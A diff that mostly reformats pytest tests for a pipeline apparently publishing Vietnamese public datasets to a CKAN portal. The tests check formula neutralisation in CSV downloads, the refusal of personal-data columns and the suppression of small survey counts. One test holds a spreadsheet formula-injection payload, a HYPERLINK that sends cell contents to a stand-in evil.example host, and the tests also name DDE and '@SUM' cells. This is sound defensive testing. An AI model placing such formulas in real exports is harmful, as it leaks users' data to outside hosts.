@@ -1,12 +1,13 @@
 """What the public downloads carries no formula, no personal column and no small count (real CKAN)."""
+
 import csv
 import io
 import urllib.request
 
 import pyarrow.parquet as pq
 import pytest
-
 from helpers import tamper
+
 from publish.run import publish_marts
 
 pytestmark = pytest.mark.portal
@@ -37,12 +38,24 @@ def test_only_whole_negative_numbers_keep_their_minus():
     from publish.files import neutralise
 
     assert [neutralise(v) for v in ("-5", "-0,5", "-1.797", "-2+3", DDE, "-", "+84912", "\tx", 5)] == [
-        "-5", "-0,5", "-1.797", "'-2+3", "'" + DDE, "'-", "'+84912", "'\tx", 5]
+        "-5",
+        "-0,5",
+        "-1.797",
+        "'-2+3",
+        "'" + DDE,
+        "'-",
+        "'+84912",
+        "'\tx",
+        5,
+    ]
 
 
 def test_formula_cells_are_neutralised_and_negative_numbers_kept(ckan, marts_copy, prefix):
     hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
-    tamper(marts_copy, "fact_ocop_products", f"""
+    tamper(
+        marts_copy,
+        "fact_ocop_products",
+        f"""
         select * replace (
             case when row_number() over (order by product_name) = 1 then '{hyperlink.replace("'", "''")}'
                  else product_name end as product_name,
@@ -52,12 +65,15 @@ def test_formula_cells_are_neutralised_and_negative_numbers_kept(ckan, marts_cop
                  else producer end as producer,
             case when row_number() over (order by product_name) = 3 then -5 else ecommerce_platform_count end
                 as ecommerce_platform_count)
-        from m""")
+        from m""",
+    )
     mart = marts_copy / "marts" / "fact_ocop_products.parquet"
     [published] = publish_marts({"fact_ocop_products": mart}, {}, marts_copy).datasets
     _, resources = _resources(ckan, published.name)
-    for rows in (_csv_rows(_download(resources["csv"]["url"])),
-                 _csv_rows(_download(f"{ckan.address}/datastore/dump/{resources['csv']['id']}"))):
+    for rows in (
+        _csv_rows(_download(resources["csv"]["url"])),
+        _csv_rows(_download(f"{ckan.address}/datastore/dump/{resources['csv']['id']}")),
+    ):
         by_product = {r["product_name"]: r for r in rows}
         assert "'" + hyperlink in by_product and hyperlink not in by_product
         assert {r["category"] for r in rows} >= {"'@SUM(A1:A9)"}
@@ -78,8 +94,10 @@ def test_a_personal_column_is_refused_before_anything_reaches_the_portal(ckan, m
     result = publish_marts(marts, {}, marts_copy)
     assert [d.mart for d in result.datasets] == ["fact_growing_area_codes"]
     assert "so_dien_thoai" in result.refused["fact_cooperatives"]
-    assert "dữ liệu cá nhân" in result.refused["fact_cooperatives"] and "personal data" in result.refused[
-        "fact_cooperatives"]
+    assert (
+        "dữ liệu cá nhân" in result.refused["fact_cooperatives"]
+        and "personal data" in result.refused["fact_cooperatives"]
+    )
     assert not [n for n in ckan.action.package_list() if n.startswith(prefix) and "hop-tac-xa" in n]
 
 
@@ -87,11 +105,14 @@ def test_suppressed_small_counts_appear_in_no_published_resource(ckan, sample_bu
     import duckdb
 
     _, built = sample_build
-    small = duckdb.sql(f"select unit_code, respondents from read_parquet('{built}/bronze/satisfaction_surveys/*.parquet')"
-                       " where respondents < 5").fetchall()
+    small = duckdb.sql(
+        f"select unit_code, respondents from read_parquet('{built}/bronze/satisfaction_surveys/*.parquet')"
+        " where respondents < 5"
+    ).fetchall()
     assert small == [("30100", 3)]  # the sample: 3 people answered in Xã Mỹ Thọ
-    marts = {m: marts_copy / "marts" / f"{m}.parquet" for m in ("fact_satisfaction_surveys",
-                                                               "fact_online_public_services")}
+    marts = {
+        m: marts_copy / "marts" / f"{m}.parquet" for m in ("fact_satisfaction_surveys", "fact_online_public_services")
+    }
     published = {d.mart: d for d in publish_marts(marts, {}, marts_copy).datasets}
 
     _, resources = _resources(ckan, published["fact_satisfaction_surveys"].name)
@@ -106,8 +127,9 @@ def test_suppressed_small_counts_appear_in_no_published_resource(ckan, sample_bu
         assert row["respondents"] in (None, ""), kind
         assert row["satisfied_pct"] in (None, ""), kind  # 100 % of 3 people would identify them
         assert str(row["suppressed"]).lower() in ("true", "t"), kind  # the dump writes PostgreSQL booleans
-    fields = {f["id"]: f["info"] for f in ckan.action.datastore_info(id=resources["csv"]["id"])["fields"]
-              if f["id"] != "_id"}
+    fields = {
+        f["id"]: f["info"] for f in ckan.action.datastore_info(id=resources["csv"]["id"])["fields"] if f["id"] != "_id"
+    }
     assert "dưới 5" in fields["respondents"]["notes"] and "below 5" in fields["respondents"]["notes"]
 
     # Counts aggregated from individual applications: none below the threshold, anywhere.
